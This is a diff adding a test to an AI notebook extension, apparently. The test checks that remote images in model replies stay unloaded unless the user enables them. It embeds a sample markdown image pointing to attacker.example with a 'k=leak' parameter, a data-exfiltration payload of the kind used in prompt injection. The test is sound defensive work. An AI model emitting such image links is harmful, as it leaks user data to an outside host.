@@ -141,3 +141,15 @@ def test_a_failing_servers_stderr_is_redacted_where_the_agent_is_shown(kernel):
     mcp = kernel.run("%ollie mcp")
     assert token not in mcp.text() + mcp.html()
     kernel.run("%ollie agent default")
+
+
+def test_replies_load_no_remote_image_unless_the_user_opts_in(kernel):
+    """23.3: a reply's remote image was fetched by the browser; off by default, a trait on."""
+    image = "![chart](https://attacker.example/p.png?k=leak)"
+    kernel.run(f"ollie_nb.use_backend(OfflineBackend(turns=['see {image}', 'again {image}']))")
+    off = kernel.run("%ollie ask draw it").html()
+    assert "<img" not in off and "[image: chart (from attacker.example, not loaded)]" in off
+    assert kernel.run("%config OllieMagics.remote_images = True").error is None
+    on = kernel.run("%ollie ask draw it again").html()
+    kernel.run("%config OllieMagics.remote_images = False")
+    assert '<img src="https://attacker.example/p.png?k=leak" alt="chart" />' in on
